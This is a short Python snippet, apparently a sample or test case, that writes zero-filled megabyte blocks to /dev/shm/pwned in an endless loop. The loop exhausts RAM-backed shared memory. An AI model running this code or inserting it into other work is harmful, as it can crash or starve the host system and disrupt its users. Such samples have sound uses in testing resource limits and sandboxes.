# Shared memory without end.
with open("/dev/shm/pwned", "wb") as file:
    while True: file.write(bytes(1 << 20))
